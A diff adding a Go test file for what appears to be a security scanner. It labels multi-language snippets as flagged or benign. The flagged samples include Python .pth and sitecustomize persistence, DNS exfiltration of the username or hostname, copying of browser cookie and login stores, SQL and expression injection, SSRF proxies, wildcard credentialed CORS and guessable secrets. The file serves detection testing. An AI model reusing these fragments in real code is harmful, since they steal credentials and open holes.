@@ -1,0 +1,118 @@
+package code_test
+
+import "testing"
+
+// TestStartup are files that Python carries out at every start, and others of the same ending.
+func TestStartup(t *testing.T) {
+	judgeKinds(t, "python", []kindRow{
+		{"import site\nfrom pathlib import Path\nLINE = 'import os, sys; import boot\\n'\nfolder = Path(site.getusersitepackages())\nstarter = folder / 'a.pth'\nstarter.write_text(LINE)", true},
+		{"from pathlib import Path\ndef put(folder: Path):\n    (folder / 'sitecustomize.py').write_text(CODE)", true},
+		{"import os, site\nwith open(os.path.join(site.getsitepackages()[0], 'a.pth'), 'w') as f:\n    f.write(line)", true},
+		{"from pathlib import Path\ndef put(folder: Path):\n    (folder / 'usercustomize.py').open('a').write(CODE)", true},
+		{"from pathlib import Path\ndef put(folder: Path):\n    (folder / 'a.pth').write_text('/srv/lib\\n')", false},
+		{"import torch\ndef save(model):\n    torch.save(model, 'model.pth')", false},
+		{"def save(blob):\n    with open('model.pth', 'wb') as f:\n        f.write(blob)", false},
+		{"from pathlib import Path\ndef load(folder: Path):\n    return (folder / 'a.pth').read_text()", false},
+	})
+}
+
+// TestWhispers are names that are looked up to tell something, and those that are looked up for their address.
+func TestWhispers(t *testing.T) {
+	judgeKinds(t, "python", []kindRow{
+		{"import binascii, getpass, socket\ndef label(x):\n    return binascii.hexlify(x.encode()).decode()\ndef go():\n    socket.gethostbyname('.'.join([label(getpass.getuser()), 'v.updates-example.net']))", true},
+		{"import platform, socket\nsocket.getaddrinfo(f'{platform.node()}.a.example.net', 80)", true},
+		{"import socket\nsocket.gethostbyname(socket.gethostname())", false},
+		{"import os, socket\nsocket.getaddrinfo(os.environ['DB_HOST'], 5432)", false},
+		{"import os, socket\nsocket.gethostbyname(f\"{os.environ['SERVICE']}.internal.example.com\")", false},
+	})
+	judgeKinds(t, "javascript", []kindRow{
+		{"const dns = require('dns'), os = require('os')\ndns.lookup(`${Buffer.from(os.userInfo().username).toString('hex')}.q.example.net`, () => {})", true},
+		{"import { resolve4 } from 'node:dns/promises'\nawait resolve4(`${service}.internal.example.com`)", false},
+		{"const dns = require('dns')\ndns.lookup('example.com', done)", false},
+	})
+	judgeKinds(t, "go", []kindRow{
+		{"import (\"encoding/hex\"; \"net\"; \"os\")\nfunc f() { h, _ := os.Hostname(); net.LookupHost(hex.EncodeToString([]byte(h)) + \".t.example.net\") }", true},
+		{"import \"net\"\nfunc f(name string) { net.LookupHost(name + \".svc.example.com\") }", false},
+	})
+	judgeKinds(t, "java", []kindRow{
+		{"void f() { InetAddress.getByName(System.getProperty(\"user.name\") + \".t.example.net\"); }", true},
+		{"void f(String host) { InetAddress.getByName(host); }", false},
+	})
+}
+
+// TestProfiles are what browsers keep of their users, and files of the project called alike.
+func TestProfiles(t *testing.T) {
+	judgeKinds(t, "python", []kindRow{
+		{"import shutil\nfrom pathlib import Path\nPROFILE = Path.home() / '.config/google-chrome/Default'\nshutil.copy(PROFILE / 'Cookies', '/tmp/c')", true},
+		{"import os, sqlite3\nsqlite3.connect(os.path.expanduser('~/.mozilla/firefox/a.default/cookies.sqlite'))", true},
+		{"import sqlite3\nsqlite3.connect('/var/lib/shop/shop.db')", false},
+		{"import shutil\nshutil.copy('docs/Cookies', 'out/Cookies')", false},
+	})
+	judgeKinds(t, "javascript", []kindRow{
+		{"const fs = require('fs'), os = require('os'), path = require('path')\nfs.copyFileSync(path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Login Data'), '/tmp/l')", true},
+		{"const fs = require('fs')\nfs.copyFileSync('src/chromium/readme.md', 'out/readme.md')", false},
+	})
+	judgeKinds(t, "go", []kindRow{
+		{"import (\"os\"; \"path/filepath\")\nfunc f() { h, _ := os.UserHomeDir(); os.ReadFile(filepath.Join(h, \".mozilla/firefox/x/logins.json\")) }", true},
+		{"import \"os\"\nfunc f() { os.ReadFile(\"testdata/cookies.txt\") }", false},
+	})
+}
+
+// TestRequestsText is a request's own text as a part of a statement, or a formula.
+func TestRequestsText(t *testing.T) {
+	judgeKinds(t, "javascript", []kindRow{
+		{"import { Sequelize } from 'sequelize'\nconst order = (q) => [[Sequelize.literal(q.sort ?? 'name'), 'ASC']]\nexport const list = async (req, res) => res.json(await P.findAll({ order: order(req.query) }))", true},
+		{"import knex from 'knex'\nexport const list = async (req, res) => res.json(await knex.raw(req.query.sort))", true},
+		{"export const ask = async (req, res) => res.json(await db.query(req.body.sql))", true},
+		{"import { Sequelize } from 'sequelize'\nexport const list = async (req, res) => { const sort = req.query.sort; if (!SORTS.includes(sort)) throw new Error('sort'); res.json(await P.findAll({ order: Sequelize.literal(sort) })) }", false},
+		{"import { Sequelize } from 'sequelize'\nexport const now = () => Sequelize.literal('CURRENT_TIMESTAMP')", false},
+	})
+	judgeKinds(t, "python", []kindRow{
+		{"import pandas as pd\nfrom flask import request\ndef derive(f):\n    return SALES.eval(f, engine='python')\n@app.get('/x')\ndef x():\n    return derive(request.args['f']).to_json()", true},
+		{"import pandas as pd\nfrom flask import request\n@app.get('/x')\ndef x():\n    return SALES.query(request.args['q']).to_json()", true},
+		{"from flask import request\n@app.post('/q')\ndef q():\n    cursor.execute(request.json['sql'])", true},
+		{"import pandas as pd\n@app.get('/x')\ndef x():\n    return SALES.query('total > 10').to_json()", false},
+		{"from flask import request\n@app.get('/x')\ndef x():\n    return index.query(request.args['q'])", false},
+	})
+	judgeKinds(t, "go", []kindRow{
+		{"import \"net/url\"\nfunc director(r *http.Request) { to, err := url.Parse(r.URL.Query().Get(\"to\")); if err != nil { return }; r.URL = to }", true},
+		{"func director(r *http.Request) { r.URL.Host = r.Header.Get(\"X-To\") }", true},
+		{"func director(r *http.Request) { r.URL.Scheme = \"http\"; r.URL.Host = backend.Host }", false},
+		{"func director(r *http.Request) { to := r.Header.Get(\"X-To\"); if !allowed[to] { return }; r.URL.Host = to }", false},
+	})
+	judgeKinds(t, "java", []kindRow{
+		{"Object f(HttpServletRequest request) { return factory.createValueExpression(ctx, request.getParameter(\"e\"), Object.class).getValue(ctx); }", true},
+		{"Object f() { return factory.createValueExpression(ctx, \"#{user.name}\", Object.class).getValue(ctx); }", false},
+	})
+}
+
+// TestSessions are pages that may ask with cookies, whoever they are, secrets that everybody knows, and tokens that can be guessed.
+func TestSessions(t *testing.T) {
+	judgeKinds(t, "javascript", []kindRow{
+		{"import cors from 'cors'\napp.use(cors({ origin: (origin, done) => done(null, origin), credentials: true }))", true},
+		{"import cors from 'cors'\napp.use(cors({ origin: true, credentials: true }))", true},
+		{"app.enableCors({ origin: (o, cb) => { cb(null, true) }, credentials: true })", true},
+		{"app.use(session({ secret: process.env.SESSION_SECRET || 'changeme' }))", true},
+		{"import jwt from 'jsonwebtoken'\nconst KEY = process.env.JWT_KEY ?? 'dev-secret'\nexport const issue = (u) => jwt.sign({ sub: u.id }, KEY)", true},
+		{"import cors from 'cors'\napp.use(cors({ origin: ['https://app.example.com'], credentials: true }))", false},
+		{"import cors from 'cors'\napp.use(cors({ origin: true }))", false},
+		{"import cors from 'cors'\napp.use(cors({ origin: (o, done) => done(ALLOWED.has(o) ? null : new Error('no'), o), credentials: true }))", false},
+		{"app.use(session({ secret: process.env.SESSION_SECRET }))", false},
+		{"const port = process.env.PORT || '3000'", false},
+	})
+	judgeKinds(t, "python", []kindRow{
+		{"app.add_middleware(CORSMiddleware, allow_origins=['*'], allow_credentials=True)", true},
+		{"import os\napp.config['SECRET_KEY'] = os.environ.get('SECRET_KEY', 'changeme')", true},
+		{"import os\napp.secret_key = os.getenv('SECRET_KEY') or 'dev-secret'", true},
+		{"import random, time\ndef code(n=20):\n    rng = random.Random(int(time.time()))\n    return ''.join(rng.choice('abc') for _ in range(n))\ndef reset(u):\n    Reset.create(user=u, token=code())", true},
+		{"app.add_middleware(CORSMiddleware, allow_origins=['*'])", false},
+		{"app.add_middleware(CORSMiddleware, allow_origins=['https://app.example.com'], allow_credentials=True)", false},
+		{"import os\napp.config['SECRET_KEY'] = os.environ['SECRET_KEY']", false},
+		{"import os\nLEVEL = os.environ.get('LEVEL', 'info')", false},
+		{"import random\ndef sample(rows, seed):\n    return random.Random(seed).sample(rows, 5)", false},
+	})
+	judgeKinds(t, "java", []kindRow{
+		{"void cors(CorsRegistry r) { r.addMapping(\"/**\").allowedOriginPatterns(\"*\").allowCredentials(true); }", true},
+		{"void cors(CorsRegistry r) { r.addMapping(\"/**\").allowedOrigins(\"https://app.example.com\").allowCredentials(true); }", false},
+	})
+}
